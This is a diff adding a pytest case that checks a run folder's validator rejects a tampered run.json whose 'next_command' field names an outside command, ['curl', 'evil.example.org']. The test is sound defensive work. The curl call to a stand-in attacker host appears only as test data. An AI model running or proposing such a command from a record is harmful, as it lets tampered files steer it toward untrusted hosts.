@@ -281,6 +281,14 @@ def test_a_record_names_a_commit_by_its_whole_id(head: str, tmp_path: Path) -> N
         runs.read(run)
 
 
+def test_what_a_record_says_to_type_next_is_a_command_of_ours(tmp_path: Path) -> None:
+    run = made_runs.recorded(tmp_path / "run", "dpo", [])
+    record = json.loads((run / "run.json").read_text())
+    (run / "run.json").write_text(json.dumps({**record, "next_command": ["curl", "evil.example.org"]}))
+    with pytest.raises(RunFolderError, match="next_command"):
+        runs.read(run)
+
+
 @pytest.mark.slow
 @pytest.mark.parametrize("linked", ["clone.worktrees", "clone.worktrees/{}"])
 def test_no_worktree_is_made_behind_a_link(linked: str, patched: Path, tmp_path: Path) -> None:
